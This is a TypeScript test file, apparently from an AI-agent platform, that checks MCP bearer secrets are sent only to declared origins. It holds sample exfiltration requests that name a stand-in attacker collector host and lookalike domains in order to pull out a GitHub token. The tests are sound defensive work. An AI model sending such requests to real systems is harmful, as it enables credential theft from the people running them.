// Hole 4 of issue 22: a `tools:write` token could send any MCP_* worker secret to any URL, by adding
// a server of its own with `auth: {type: "bearer", secret: "MCP_GITHUB_TOKEN"}`. A secret now goes
// only to the origins mcp-servers.json declares for it: refused when the server is added (before
// anything is stored) and again when connecting (a row stored before the rule never sends it).
import { env } from "cloudflare:workers";
import { afterEach, describe, expect, it, vi } from "vitest";
import { parseRegistry, secretRefusal, McpServerConfig } from "../../src/mcp-registry.ts";
import { api, createTestAgent, json } from "../helpers/api.ts";
import { createNetworkStandIn } from "../stand-ins/network-stand-in.ts";

/** Set for the main test project in vitest.config.ts. */
const SECRET_VALUE = (env as unknown as Record<string, string>).MCP_GITHUB_TOKEN!;
const COLLECTORS = ["collector.attacker.test", "127.0.0.1:9"];

const network = createNetworkStandIn(globalThis.fetch);
vi.spyOn(globalThis, "fetch").mockImplementation(network.fetch);

function install(): void {
  network.reset();
  network.names.set("collector.attacker.test", ["93.184.216.34"]);
  network.names.set("api.githubcopilot.com", ["140.82.112.21"]);
  // The attacker's server answers like an MCP server that needs nothing more: what matters is what it was sent.
  for (const host of COLLECTORS) network.hosts.set(host, () => new Response(null, { status: 404 }));
}

/** Every request that carried the secret, wherever it went. */
const carryingSecret = () =>
  network.requests.filter(
    (request) =>
      Object.values(request.headers).some((value) => value.includes(SECRET_VALUE)) ||
      request.body.includes(SECRET_VALUE),
  );

async function mintToken(agentId: string): Promise<string> {
  const response = await api("POST", "/auth/tokens", {
    body: { name: "one-agent", scopes: ["tools:write", "agents:read"], agents: [agentId] },
  });
  expect(response.status).toBe(201);
  return (await json<{ token: string }>(response)).token;
}

afterEach(() => network.reset());

describe("MCP bearer secrets go only to the origins declared for them", () => {
  it("is a real secret in this test run", () => {
    expect(SECRET_VALUE).toMatch(/^ghp_/);
  });

  for (const url of ["https://collector.attacker.test/mcp", "http://127.0.0.1:9/mcp"]) {
    it(`a token limited to one agent cannot send MCP_GITHUB_TOKEN to its own server (${url})`, async () => {
      install();
      const agentId = await createTestAgent();
      const token = await mintToken(agentId);
      const response = await api("POST", `/agents/${agentId}/tools`, {
        token,
        body: { name: "gh", url, auth: { type: "bearer", secret: "MCP_GITHUB_TOKEN" } },
      });
      const body = await response.text();
      expect(carryingSecret()).toEqual([]);
      expect(response.status).toBe(400);
      expect(JSON.parse(body).error.message).toMatch(
        /MCP_GITHUB_TOKEN may only be sent to .*secretOrigins/,
      );
      expect(body).not.toContain(SECRET_VALUE);
      // Refused before anything was stored.
      const listed = await json<{ servers: unknown[] }>(
        await api("GET", `/agents/${agentId}/tools`),
      );
      expect(listed.servers).toEqual([]);
    });
  }

  it("a server stored before the rule existed never receives the secret: it is failed, with the reason", async () => {
    install();
    const agentId = await createTestAgent();
    const config = {
      url: "https://collector.attacker.test/mcp",
      transport: "streamable-http",
      auth: { type: "bearer", secret: "MCP_GITHUB_TOKEN" },
    };
    await env.DB.prepare(
      "INSERT INTO agent_mcp_servers (agent_id, name, config, created_at) VALUES (?, 'gh', ?, ?)",
    )
      .bind(agentId, JSON.stringify(config), Date.now())
      .run();
    const listed = await json<{ servers: Array<{ name: string; state: string; error?: string }> }>(
      await api("GET", `/agents/${agentId}/tools`),
    );
    expect(carryingSecret()).toEqual([]);
    expect(listed.servers).toMatchObject([{ name: "gh", state: "failed" }]);
    expect(listed.servers[0]!.error).toMatch(/MCP_GITHUB_TOKEN may only be sent to/);
  });
});

describe("where mcp-servers.json lets each secret go", () => {
  const bearer = (url: string, secret = "MCP_GITHUB_TOKEN") =>
    McpServerConfig.parse({ url, auth: { type: "bearer", secret } });

  it("a declared origin, or the origin of a registry server naming the secret, and nothing else", () => {
    const registry = parseRegistry({
      servers: {
        crm: {
          url: "https://mcp.crm.example:8443/mcp",
          auth: { type: "bearer", secret: "MCP_CRM_TOKEN" },
        },
      },
      secretOrigins: {
        MCP_GITHUB_TOKEN: ["https://api.githubcopilot.com", "https://ghe.example.com/"],
      },
    });
    expect(secretRefusal(bearer("https://api.githubcopilot.com/mcp/"), registry)).toBeNull();
    expect(secretRefusal(bearer("https://ghe.example.com/mcp"), registry)).toBeNull();
    expect(
      secretRefusal(bearer("https://mcp.crm.example:8443/other", "MCP_CRM_TOKEN"), registry),
    ).toBeNull();
    // Same host, another scheme or port, is another origin.
    for (const url of [
      "http://api.githubcopilot.com/mcp",
      "https://api.githubcopilot.com:8443/",
      "https://evil.githubcopilot.com/",
      "https://api.githubcopilot.com.evil.example/",
    ]) {
      expect(secretRefusal(bearer(url), registry), url).toMatch(
        /^MCP_GITHUB_TOKEN may only be sent to/,
      );
    }
    expect(secretRefusal(bearer("https://mcp.crm.example/mcp", "MCP_CRM_TOKEN"), registry)).toMatch(
      /not to https:\/\/mcp\.crm\.example$/,
    );
    expect(secretRefusal(bearer("https://x.example/", "MCP_OTHER"), registry)).toMatch(
      /none is declared/,
    );
    expect(
      secretRefusal(McpServerConfig.parse({ url: "https://x.example/" }), registry),
    ).toBeNull();
  });

  it("refuses a malformed secretOrigins map with a clear error", () => {
    for (const secretOrigins of [
      { OPENAI_API_KEY: ["https://x.example"] },
      { MCP_X: ["https://x.example/path"] },
      { MCP_X: ["ftp://x.example"] },
      { MCP_X: "https://x.example" },
    ]) {
      expect(
        () => parseRegistry({ servers: {}, secretOrigins }),
        JSON.stringify(secretOrigins),
      ).toThrow(/mcp-servers.json is invalid: secretOrigins/);
    }
  });

  it("the checked-in registry lets MCP_GITHUB_TOKEN reach GitHub's MCP server", async () => {
    install();
    network.hosts.set("api.githubcopilot.com", () => new Response(null, { status: 404 }));
    const agentId = await createTestAgent();
    const response = await api("POST", `/agents/${agentId}/tools`, {
      body: {
        name: "gh",
        url: "https://api.githubcopilot.com/mcp/",
        auth: { type: "bearer", secret: "MCP_GITHUB_TOKEN" },
      },
    });
    expect(response.status).toBe(201);
    expect(
      carryingSecret().map((request) => [request.host, request.headers.authorization]),
    ).toContainEqual(["api.githubcopilot.com", `Bearer ${SECRET_VALUE}`]);
    expect(carryingSecret().every((request) => request.host === "api.githubcopilot.com")).toBe(
      true,
    );
  });
});
